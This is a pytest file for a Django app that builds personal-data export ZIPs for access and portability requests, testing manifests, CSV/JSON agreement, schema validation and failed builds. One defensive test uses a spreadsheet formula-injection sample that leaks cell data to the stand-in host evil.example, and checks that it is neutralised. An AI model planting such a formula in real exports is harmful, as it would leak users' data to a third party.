"""Export packages: what the ZIP holds, that its files agree, and what a failed build leaves."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import zipfile
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
from django.core.files.storage import FileSystemStorage
from django.utils import timezone
from jsonschema import Draft202012Validator

from exports.build import (
    ArchiveWriter,
    export_build,
    export_storage,
    stall_after,
)
from exports.models import ExportPackage, ExportStatus
from exports.statements import policy_statements
from policies.models import Organization
from requests_app.models import EventKind, SubjectRequest
from subject_data.records import FORMULA_GUARD, FORMULA_START
from subject_data.registry import registry
from subject_data.schema import data_schema
from tests.factories import (
    AccountUserFactory,
    ConfirmedRequestFactory,
    LoginFactory,
    OrganizationFactory,
    SaleFactory,
    account_with_every_record,
)

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def exports_location(settings: Any, tmp_path: Path) -> Path:
    location = tmp_path / "exports"
    settings.STORAGES = {
        **settings.STORAGES,
        "exports": {
            "BACKEND": FileSystemStorage.__module__ + ".FileSystemStorage",
            "OPTIONS": {"location": location},
        },
    }
    return location


@pytest.fixture
def organization(db: None) -> Organization:
    created: Organization = OrganizationFactory.create(slug="zpos", name="ZPos System")
    return created


def _request(organization: Organization, **kwargs: Any) -> SubjectRequest:
    created: SubjectRequest = ConfirmedRequestFactory.create(
        organization=organization, email="owner@shop.example", **kwargs
    )
    return created


def _build(request: SubjectRequest) -> tuple[ExportPackage, zipfile.ZipFile, bytes]:
    package = ExportPackage.objects.create(request=request, kind=request.request_type)
    built = export_build(package_id=package.pk)
    assert built is not None
    with export_storage().open(built.file_path, "rb") as stored:
        content = stored.read()
    return built, zipfile.ZipFile(io.BytesIO(content)), content


def _data(archive: zipfile.ZipFile) -> dict[str, Any]:
    data: dict[str, Any] = json.loads(archive.read("data.json"))
    return data


def _ids_by_model(data: dict[str, Any]) -> dict[str, set[int]]:
    found: dict[str, set[int]] = {}
    for records in data["categories"].values():
        for record in records:
            found.setdefault(record["model"], set()).add(record["id"])
    return found


def test_an_access_export_holds_every_registered_model_and_nothing_of_anyone_else(
    organization: Organization,
) -> None:
    request = _request(organization)
    expected = account_with_every_record(
        organization=organization, owner_email="owner@shop.example"
    )
    account_with_every_record(organization=organization, owner_email="neighbour@shop.example")
    # The same address at another vendor is another relationship, not this request's business.
    elsewhere = OrganizationFactory.create(slug="clopos")
    account_with_every_record(organization=elsewhere, owner_email="owner@shop.example")

    package, archive, _content = _build(request)

    found = _ids_by_model(_data(archive))
    assert set(found) == {r.label for r in registry} == set(expected)
    assert found == expected
    assert package.status == ExportStatus.READY
    assert package.total_rows == sum(len(ids) for ids in expected.values())
    assert package.row_counts["models"] == {label: len(ids) for label, ids in expected.items()}


def test_the_manifest_gives_the_size_and_sha256_of_every_file(organization: Organization) -> None:
    request = _request(organization)
    account_with_every_record(organization=organization, owner_email="owner@shop.example")

    package, archive, content = _build(request)

    manifest = json.loads(archive.read("manifest.json"))
    listed = {entry["name"]: entry for entry in manifest["files"]}
    assert set(listed) | {"manifest.json"} == set(archive.namelist())
    for name, entry in listed.items():
        body = archive.read(name)
        assert entry["size"] == len(body)
        assert entry["sha256"] == hashlib.sha256(body).hexdigest()
    assert package.sha256 == hashlib.sha256(content).hexdigest()
    assert package.size == len(content)
    assert manifest["request"]["reference"] == request.reference
    assert manifest["subject"]["email"] == "owner@shop.example"
    assert manifest["organization"]["slug"] == "zpos"
    assert manifest["policy_version"]["version"] == "exports"
    assert manifest["total_rows"] == package.total_rows
    counts = {c["category"]: c["rows"] for c in manifest["categories"]}
    assert counts == {k: len(v) for k, v in _data(archive)["categories"].items()}


def _csv_text(value: Any) -> str:
    """How a data.json value must read in the CSV."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, str) and value[:1] in FORMULA_START:
        # Text that starts like a formula (a phone number's "+"); no amount here is negative.
        return FORMULA_GUARD + value
    return str(value)


def test_each_category_csv_agrees_with_data_json(organization: Organization) -> None:
    request = _request(organization)
    account_with_every_record(organization=organization, owner_email="owner@shop.example")
    AccountUserFactory.create(
        account__organization=organization,
        email="owner@shop.example",
        first_name="Ольга",
        last_name='O"Neil, Jr.',
    )

    _package, archive, _content = _build(request)

    data = _data(archive)
    for category, records in data["categories"].items():
        rows = list(csv.reader(io.StringIO(archive.read(f"{category}.csv").decode("utf-8"))))
        header, body = rows[0], rows[1:]
        assert header[:2] == ["model", "id"]
        assert len(body) == len(records)
        for row, record in zip(body, records, strict=True):
            cells = dict(zip(header, row, strict=True))
            assert cells["model"] == record["model"]
            assert cells["id"] == str(record["id"])
            for name, value in record["fields"].items():
                assert cells[name] == _csv_text(value), (category, name)
    assert "Ольга" in archive.read("contact.csv").decode("utf-8")


def test_values_are_written_as_documented(organization: Organization) -> None:
    request = _request(organization)
    sale = SaleFactory.create(
        account__organization=organization,
        total="12345.60",
        created_at=datetime(2026, 3, 1, 9, 30, tzinfo=timezone.get_current_timezone()),
    )
    AccountUserFactory.create(
        account=sale.account, email="owner@shop.example", role="owner", date_of_birth=None
    )

    _package, archive, _content = _build(request)

    records = {r["model"]: r for rs in _data(archive)["categories"].values() for r in rs}
    assert records["pos.sale"]["fields"]["total"] == "12345.60"
    assert records["pos.sale"]["fields"]["created_at"] == "2026-03-01T09:30:00.000000+00:00"
    assert records["pos.account"]["fields"]["subscription_active"] is True
    assert records["pos.account"]["fields"]["licence_paid_until"] == (
        sale.account.licence_paid_until.isoformat()
    )
    assert records["pos.accountuser"]["fields"]["date_of_birth"] is None
    assert records["pos.accountuser"]["fields"]["account"] == sale.account.pk


# --- data.json against the published schema -------------------------------------------------------


def _validator() -> Draft202012Validator:
    schema = data_schema()
    Draft202012Validator.check_schema(schema)
    return Draft202012Validator(schema, format_checker=Draft202012Validator.FORMAT_CHECKER)


def test_data_json_follows_the_published_schema(organization: Organization) -> None:
    request = _request(organization)
    account_with_every_record(organization=organization, owner_email="owner@shop.example")
    _package, archive, _content = _build(request)
    validator = _validator()

    data = _data(archive)

    assert [error.message for error in validator.iter_errors(data)] == []
    assert data["$schema"] == validator.schema["$id"]


def test_the_schema_catches_a_record_that_does_not_follow_it(organization: Organization) -> None:
    request = _request(organization)
    account_with_every_record(organization=organization, owner_email="owner@shop.example")
    _package, archive, _content = _build(request)
    data = _data(archive)

    data["categories"]["transaction"][0]["fields"]["unexpected"] = 1
    data["categories"]["payment"][0]["fields"]["amount"] = 399000.0

    errors = list(_validator().iter_errors(data))
    assert len(errors) == 2


def test_a_portability_export_holds_only_what_the_subject_provided_or_generated(
    organization: Organization,
) -> None:
    request = _request(organization, request_type="portability")
    expected = account_with_every_record(
        organization=organization, owner_email="owner@shop.example"
    )

    package, archive, _content = _build(request)

    found = _ids_by_model(_data(archive))
    assert "pos.invoice" not in found
    assert found == {k: v for k, v in expected.items() if k != "pos.invoice"}
    assert package.kind == "portability"
    manifest_models = {m["model"] for c in json.loads(archive.read("manifest.json"))["categories"]
                       for m in c["models"]}  # fmt: skip
    assert "pos.invoice" not in manifest_models


def test_the_access_summary_states_purposes_recipients_and_retention_in_the_subjects_language(
    organization: Organization,
) -> None:
    request = _request(organization, language="ru")
    account_with_every_record(organization=organization, owner_email="owner@shop.example")

    _package, archive, _content = _build(request)

    summary = archive.read("summary.html").decode("utf-8")
    assert '<html lang="ru"' in summary
    assert "2. How We Use Your Information" in summary
    assert "To provide and manage the point-of-sale service" in summary
    assert "3. Sharing Your Information" in summary
    assert "Tax Code, art. 90" in summary  # the retention exemption's legal basis
    assert request.reference in summary


def test_the_portability_summary_does_not_restate_the_policy(organization: Organization) -> None:
    request = _request(organization, request_type="portability")

    _package, archive, _content = _build(request)

    summary = archive.read("summary.html").decode("utf-8")
    assert "How We Use Your Information" not in summary
    assert "data.json" in summary


def test_rows_are_streamed_in_chunks_smaller_than_the_export(
    organization: Organization, settings: Any
) -> None:
    settings.EXPORT_CHUNK_SIZE = 2
    request = _request(organization)
    owner = AccountUserFactory.create(
        account__organization=organization, email="owner@shop.example", role="owner"
    )
    sales = {SaleFactory.create(account=owner.account).pk for _ in range(5)}

    package, archive, _content = _build(request)

    assert _ids_by_model(_data(archive))["pos.sale"] == sales
    assert package.row_counts["categories"]["transaction"] == 5


def test_a_failed_build_leaves_no_file_and_tells_staff_why(
    organization: Organization, exports_location: Path
) -> None:
    request = _request(organization)
    account_with_every_record(organization=organization, owner_email="owner@shop.example")
    # The finished archive cannot be moved into place: where its directory should be is a file.
    exports_location.mkdir(parents=True)
    (exports_location / "packages").write_text("not a directory")
    package = ExportPackage.objects.create(request=request, kind="access")

    with pytest.raises(OSError, match="packages"):
        export_build(package_id=package.pk)

    package.refresh_from_db()
    assert package.status == ExportStatus.FAILED
    assert package.failure.startswith(("FileExistsError", "NotADirectoryError"))
    assert package.file_path == package.partial_path == ""
    assert list((exports_location / "partial").iterdir()) == []
    event = request.events.filter(kind=EventKind.NOTE).last()
    assert event is not None
    assert event.data["export"]["event"] == "build_failed"


def test_a_package_already_built_is_not_built_again(organization: Organization) -> None:
    request = _request(organization)
    package, _archive, _content = _build(request)

    assert export_build(package_id=package.pk) is None

    again = ExportPackage.objects.get(pk=package.pk)
    assert (again.status, again.file_path, again.attempts) == (
        ExportStatus.READY,
        package.file_path,
        1,
    )


def test_a_build_whose_worker_died_is_taken_over_once_it_has_surely_stopped(
    organization: Organization,
) -> None:
    request = _request(organization)
    started = timezone.now()
    package = ExportPackage.objects.create(
        request=request, kind="access", status=ExportStatus.BUILDING, attempts=1, started_at=started
    )

    assert export_build(package_id=package.pk, at=started + stall_after() / 2) is None
    built = export_build(package_id=package.pk, at=started + stall_after())

    assert built is not None
    assert (built.status, built.attempts) == (ExportStatus.READY, 2)


def test_the_database_and_python_write_the_same_records(organization: Organization) -> None:
    request = _request(organization)
    account_with_every_record(organization=organization, owner_email="owner@shop.example")
    user = AccountUserFactory.create(
        account__organization=organization,
        account__registered_address="C:\\Backslash\\Street, 1",
        email="owner@shop.example",
        first_name='Zoë "Z", Jr.',
        last_name="Two\nLines",
        phone="",
        role="owner",
    )
    LoginFactory.create(user=user, ip_address="2001:db8::1", user_agent="")
    package = ExportPackage.objects.create(request=request, kind="access")
    written = {}
    raw = {}

    for vendor in ("postgresql", "sqlite"):
        sink = io.BytesIO()
        ArchiveWriter(package, generated_at=timezone.now(), vendor=vendor).write(sink)
        archive = zipfile.ZipFile(sink)
        categories = _data(archive)["categories"]
        csvs = {
            name: list(csv.reader(io.StringIO(archive.read(f"{name}.csv").decode("utf-8"))))
            for name in categories
        }
        written[vendor] = (categories, csvs)
        raw[vendor] = {name: archive.read(f"{name}.csv") for name in categories}

    assert written["postgresql"] == written["sqlite"]
    assert raw["postgresql"] == raw["sqlite"]
    assert written["postgresql"][0]["contact"][1]["fields"]["last_name"] == "Two\nLines"
    assert ["2001:db8::1" in row for row in written["postgresql"][1]["technical"]].count(True) == 1


def test_csv_text_that_a_spreadsheet_would_run_as_a_formula_is_neutralised_by_both_writers(
    organization: Organization,
) -> None:
    request = _request(organization)
    user = AccountUserFactory.create(
        account__organization=organization,
        account__company_name="\rCR Trading",
        account__registered_address="\tTabbed Street",
        email="owner@shop.example",
        first_name="@SUM(A1:A9)",
        last_name="-2+3",
        phone="+998 90 123 45 67",
        role="owner",
    )
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    SaleFactory.create(account=user.account, total="-5.00", customer_name=formula)
    package = ExportPackage.objects.create(request=request, kind="access")

    for vendor in ("postgresql", "sqlite"):
        sink = io.BytesIO()
        ArchiveWriter(package, generated_at=timezone.now(), vendor=vendor).write(sink)
        archive = zipfile.ZipFile(sink)
        cells = {
            (row["model"], name): value
            for category in _data(archive)["categories"]
            for row in csv.DictReader(
                io.StringIO(archive.read(f"{category}.csv").decode("utf-8"), newline="")
            )
            for name, value in row.items()
            if value
        }
        records = {
            record["model"]: record["fields"]
            for records in _data(archive)["categories"].values()
            for record in records
        }

        assert cells[("pos.sale", "customer_name")] == "'" + formula, vendor
        assert cells[("pos.accountuser", "first_name")] == "'@SUM(A1:A9)", vendor
        assert cells[("pos.accountuser", "last_name")] == "'-2+3", vendor
        assert cells[("pos.accountuser", "phone")] == "'+998 90 123 45 67", vendor
        assert cells[("pos.account", "company_name")] == "'\rCR Trading", vendor
        assert cells[("pos.account", "registered_address")] == "'\tTabbed Street", vendor
        # A negative amount is a number, not a formula; data.json keeps every exact value.
        assert cells[("pos.sale", "total")] == "-5.00", vendor
        assert records["pos.sale"]["customer_name"] == formula
        assert records["pos.sale"]["total"] == "-5.00"
        assert records["pos.accountuser"]["last_name"] == "-2+3"


def test_the_summary_and_manifest_say_how_csv_cells_are_neutralised(
    organization: Organization,
) -> None:
    _package, archive, _content = _build(_request(organization))

    manifest = json.loads(archive.read("manifest.json"))
    summary = archive.read("summary.html").decode("utf-8")

    assert manifest["csv"]["formula_guard"] == "'"
    assert set(manifest["csv"]["guarded_starts"]) == {"=", "+", "-", "@", "\t", "\r"}
    assert "does not run it as a formula" in summary


@pytest.mark.parametrize(
    ("seed", "purposes", "recipients"),
    [
        ("zpos", ["2. How We Use Your Information"], ["3. Sharing Your Information"]),
        (
            "clopos",
            ["2. How We Use Information"],
            ["3. Sharing Information With Third Parties", "9. International Data Transfers"],
        ),
        ("pumppos", ["2. How We Use Your Information"], ["3. Data Sharing and Disclosure"]),
    ],
)
def test_the_summary_finds_purposes_and_recipients_in_the_seed_policies(
    seed: str, purposes: list[str], recipients: list[str]
) -> None:
    text = (Path(__file__).resolve().parents[2] / "seeds" / f"{seed}.txt").read_text("utf-8")

    statements = policy_statements(text)

    assert [s.heading for s in statements.purposes] == purposes
    assert [s.heading for s in statements.recipients] == recipients
    assert all(s.body for s in statements.purposes + statements.recipients)


def test_a_policy_without_such_headings_has_no_sections_to_quote() -> None:
    statements = policy_statements("We keep your data safe.\nWe never sell it.\n")

    assert not statements.complete
    assert statements.purposes == statements.recipients == []
